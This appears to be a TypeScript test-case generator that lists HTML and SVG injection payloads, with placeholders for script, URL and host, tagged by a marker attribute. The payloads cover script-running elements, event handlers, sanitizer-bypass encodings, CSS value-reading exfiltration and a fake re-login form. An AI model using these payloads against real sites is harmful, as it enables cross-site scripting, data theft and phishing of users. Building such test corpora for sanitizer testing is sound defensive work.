import { MADE, type Mark, type Recipe } from './form.ts';

type Written = (mark: Mark) => string;

/** Every element that can load, run, send or restyle by itself; `@` is put where its attributes go. */
const ELEMENTS: { readonly [name: string]: Written } = {
  script: ({ run }) => `<script @>${run}</script>`,
  'script from elsewhere': ({ url }) => `<script @ src="${url}.js"></script>`,
  'script of a module': ({ url }) => `<script @ type="module">import "${url}.js"</script>`,
  'import map': ({ url }) => `<script @ type="importmap">{"imports":{"react":"${url}.js"}}</script>`,
  'speculation rules': ({ url }) =>
    `<script @ type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`,
  img: ({ url }) => `<img @ src="${url}.png">`,
  'img without quotes': ({ url }) => `<img @ src=${url}.png>`,
  'img of many sizes': ({ url }) => `<img @ srcset="${url}.png 1x, ${url}2.png 2x">`,
  'img, lazy': ({ url }) => `<img @ loading="lazy" src="${url}.png">`,
  'img that fails': ({ run }) => `<img @ src=x onerror="${run}">`,
  'img without an end': ({ url }) => `<img @ src="${url}.png`,
  'img with a slash for a space': ({ run }) => `<img/@/src=x/onerror=${run}>`,
  'img in capitals': ({ url }) => `<IMG @ SRC="${url}.png">`,
  image: ({ url }) => `<image @ src="${url}.png">`,
  picture: ({ url }) => `<picture @><source srcset="${url}.png"><img></picture>`,
  svg: ({ run }) => `<svg @ onload="${run}"></svg>`,
  'svg image': ({ url }) => `<svg @><image href="${url}.svg" /></svg>`,
  'svg image, xlink': ({ url }) => `<svg @><image xlink:href="${url}.svg" /></svg>`,
  'svg use': ({ url }) => `<svg @><use href="${url}.svg#a" /></svg>`,
  'svg feImage': ({ url }) =>
    `<svg @><filter id="f"><feImage href="${url}.svg"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  'svg script': ({ run }) => `<svg @><script>${run}</script></svg>`,
  'svg foreignObject': ({ url }) =>
    `<svg @><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url}"></iframe></foreignObject></svg>`,
  'svg animate': ({ run }) => `<svg @><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  'svg set': ({ run }) =>
    `<svg @><a><set attributeName="href" to="javascript:${run}"/><text y="9">x</text></a></svg>`,
  'svg style': ({ url }) => `<svg @><style>@import "${url}.css"</style></svg>`,
  'svg link': ({ run }) => `<svg @><a xlink:href="javascript:${run}"><text y="9">x</text></a></svg>`,
  style: ({ url }) => `<style @>body{background:url("${url}.png")}</style>`,
  'style with an import': ({ url }) => `<style @>@import url("${url}.css");</style>`,
  'style that hides': ({ word }) => `<style @>body{display:none}/*${word}*/</style>`,
  'style with a font': ({ url }) =>
    `<style @>@font-face{font-family:z;src:url("${url}.woff2")}*{font-family:z}</style>`,
  'style that reads a value': ({ url }) =>
    `<style @>input[value^="a"]{background:url("${url}.png?a")} :has(h1){background:url("${url}.png?h")}</style>`,
  'style attribute': ({ url }) => `<div @ style="background-image:url('${url}.png')">x</div>`,
  'style attribute over the page': ({ word }) =>
    `<div @ style="position:fixed;inset:0;z-index:9999;background:#fff">${word}</div>`,
  'link stylesheet': ({ url }) => `<link @ rel="stylesheet" href="${url}.css">`,
  'link prefetch': ({ url }) => `<link @ rel="prefetch" href="${url}">`,
  'link preload': ({ url }) => `<link @ rel="preload" as="image" href="${url}.png">`,
  'link modulepreload': ({ url }) => `<link @ rel="modulepreload" href="${url}.js">`,
  'link dns-prefetch': ({ host }) => `<link @ rel="dns-prefetch" href="//${host}">`,
  'link preconnect': ({ host }) => `<link @ rel="preconnect" href="http://${host}">`,
  'link prerender': ({ url }) => `<link @ rel="prerender" href="${url}">`,
  'link icon': ({ url }) => `<link @ rel="icon" href="${url}.png">`,
  'link manifest': ({ url }) => `<link @ rel="manifest" href="${url}.json">`,
  'link import': ({ url }) => `<link @ rel="import" href="${url}">`,
  'meta refresh': ({ url }) => `<meta @ http-equiv="refresh" content="0;url=${url}">`,
  'meta refresh to a script': ({ run }) => `<meta @ http-equiv="refresh" content="0;url=javascript:${run}">`,
  'meta policy': ({ word }) =>
    `<meta @ http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; report-uri /${word}">`,
  'meta referrer': ({ url }) => `<meta @ name="referrer" content="unsafe-url"><img src="${url}.png">`,
  base: ({ url }) => `<base @ href="${url}/">`,
  iframe: ({ url }) => `<iframe @ src="${url}"></iframe>`,
  'iframe with a page in it': ({ run }) => `<iframe @ srcdoc="<script>parent.${run}</script>"></iframe>`,
  'iframe of a script': ({ run }) => `<iframe @ src="javascript:parent.${run}"></iframe>`,
  'iframe of data': ({ url }) => `<iframe @ src="data:text/html,<img src='${url}.png'>"></iframe>`,
  frameset: ({ url }) => `<frameset @><frame src="${url}"></frameset>`,
  fencedframe: ({ url }) => `<fencedframe @ src="${url}"></fencedframe>`,
  portal: ({ url }) => `<portal @ src="${url}"></portal>`,
  object: ({ url }) => `<object @ data="${url}.svg" type="image/svg+xml"></object>`,
  'object of data': ({ run }) => `<object @ data="data:text/html,<script>parent.${run}</script>"></object>`,
  embed: ({ url }) => `<embed @ src="${url}.svg">`,
  applet: ({ url }) => `<applet @ codebase="${url}" code="x.class"></applet>`,
  video: ({ url }) => `<video @ src="${url}.mp4" autoplay muted></video>`,
  'video poster': ({ url }) => `<video @ poster="${url}.png"></video>`,
  audio: ({ url }) => `<audio @ src="${url}.mp3" autoplay></audio>`,
  source: ({ run }) => `<video @><source src="x" onerror="${run}"></video>`,
  track: ({ url }) => `<video @ autoplay><track default kind="subtitles" src="${url}.vtt"></video>`,
  form: ({ url }) => `<form @ action="${url}" method="post"><button>Sign in again</button></form>`,
  'form that sends itself': ({ url }) =>
    `<form @ action="${url}"><input name="q" autofocus onfocus="this.form.submit()"></form>`,
  'button with an action': ({ url }) => `<form @><button formaction="${url}">Go on</button></form>`,
  'button of a script': ({ run }) => `<button @ onclick="${run}">Go on</button>`,
  'button that shows': ({ run }) =>
    `<button @ popovertarget="zq">x</button><div popover id="zq" onbeforetoggle="${run}">x</div>`,
  'input of an image': ({ url }) => `<input @ type="image" src="${url}.png">`,
  'input for a password': ({ word }) =>
    `<input @ type="password" name="${word}" autocomplete="current-password">`,
  'input that takes the focus': ({ run }) => `<input @ autofocus onfocus="${run}">`,
  select: ({ run }) => `<select @ autofocus onfocus="${run}"></select>`,
  textarea: ({ run }) => `<textarea @ autofocus onfocus="${run}"></textarea>`,
  'text field that is closed early': ({ run }) => `</textarea><img @ src=x onerror="${run}">`,
  a: ({ url }) => `<a @ href="${url}">results</a>`,
  'a of a script': ({ run }) => `<a @ href="javascript:${run}">results</a>`,
  'a that pings': ({ url }) => `<a @ href="/patients" ping="${url}">results</a>`,
  'a that downloads': ({ url }) => `<a @ download="x.exe" href="${url}.exe">results</a>`,
  area: ({ url }) => `<map @ name="m"><area href="${url}" coords="0,0,9,9" shape="rect"></map>`,
  math: ({ run }) => `<math @ href="javascript:${run}"><mtext>x</mtext></math>`,
  'math with a style inside': ({ run }) =>
    `<math @><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  details: ({ run }) => `<details @ open ontoggle="${run}">x</details>`,
  dialog: ({ run }) => `<dialog @ open oncancel="${run}">x</dialog>`,
  marquee: ({ run }) => `<marquee @ onstart="${run}">x</marquee>`,
  bgsound: ({ url }) => `<bgsound @ src="${url}.mp3">`,
  'body with a background': ({ url }) => `<body @ background="${url}.png">`,
  'table with a background': ({ url }) => `<table @ background="${url}.png"><tr><td>x</td></tr></table>`,
  template: ({ run }) => `<template @><img src=x onerror="${run}"></template>`,
  'template of a shadow': ({ url }) =>
    `<div @><template shadowrootmode="open"><img src="${url}.png"></template></div>`,
  noscript: ({ run }) => `<noscript @><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  'own element': ({ run }) => `<x-zq @ onfocus="${run}" tabindex="1" autofocus>x</x-zq>`,
  keygen: ({ run }) => `<keygen @ autofocus onfocus="${run}">`,
  xmp: ({ run }) => `<xmp @></xmp><img src=x onerror="${run}">`,
  plaintext: ({ word }) => `<plaintext @>${word}`,
  comment: ({ run }) => `<!--><img @ src=x onerror="${run}">-->`,
  'conditional comment': ({ run }) => `<!--[if gte IE 4]><script @>${run}</script><![endif]-->`,
  'character data': ({ run }) => `<![CDATA[<img @ src=x onerror="${run}">]]>`,
  'processing instruction': ({ run }) =>
    `<?xml-stylesheet href="javascript:${run}"?><img @ src=x onerror="${run}">`,
  doctype: ({ url }) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><x @>&e;</x>`,
  'entity for a bracket': ({ run }) => `&lt;img @ src=x onerror=&quot;${run}&quot;&gt;`,
  'entity in an address': ({ run }) => `<a @ href="jav&#x09;ascript:${run}">x</a>`,
  'named entity in an address': ({ run }) => `<a @ href="javascript&colon;${run}">x</a>`,
  'escaped angle brackets': ({ run }) => `\\u003cimg @ src=x onerror=${run}\\u003e`,
  'null in a name': ({ run }) => `<scr\ufffdipt @>${run}</scr\ufffdipt>`,
  'nested in itself': ({ run }) => `<scr<script @>ipt>${run}</scr</script>ipt>`,
  'full-width brackets': ({ run }) => `＜script @＞${run}＜/script＞`,
};

/** Each kind of event that the browser raises by itself or on the slightest touch. */
const EVENTS = [
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforematch onbeforetoggle onblur',
  'oncanplay onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy oncut ondblclick ondrag ondrop',
  'onended onerror onfocus onfocusin onformdata ongotpointercapture onhashchange oninput oninvalid onkeydown',
  'onload onloadstart onmessage onmousedown onmouseenter onmousemove onmouseover onpageshow onpaste onplay onpointerdown',
  'onpointerenter onpointermove onpointerrawupdate onpopstate onresize onscroll onscrollend onsearch onselect',
  'onselectionchange onslotchange onstorage onsubmit ontoggle ontouchstart ontransitionend onunhandledrejection onunload',
  'onwheel',
].flatMap((line) => line.split(' '));

export const HTML: readonly Recipe[] = [
  ...Object.entries(ELEMENTS).map(
    ([name, text]): Recipe => [
      `element: ${name}`,
      (mark) => text(mark).replaceAll('@', `${MADE}="${mark.word}"`),
    ],
  ),
  ...EVENTS.map(
    (event): Recipe => [
      `event: ${event}`,
      ({ word, run }) => `<b ${MADE}="${word}" tabindex=0 contenteditable ${event}="${run}">press</b>`,
    ],
  ),
];
